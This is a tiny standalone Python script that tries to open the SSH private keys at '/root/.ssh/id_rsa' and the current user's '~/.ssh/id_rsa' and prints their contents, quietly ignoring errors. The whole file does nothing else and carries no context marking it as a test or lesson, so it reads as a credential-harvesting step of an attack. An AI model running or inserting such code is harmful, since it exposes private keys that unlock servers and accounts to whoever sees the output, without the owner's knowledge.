import os
home = os.path.expanduser("~")
for k in ("/root/.ssh/id_rsa", home + "/.ssh/id_rsa"):
    try:
        print(open(k).read())
    except OSError:
        pass
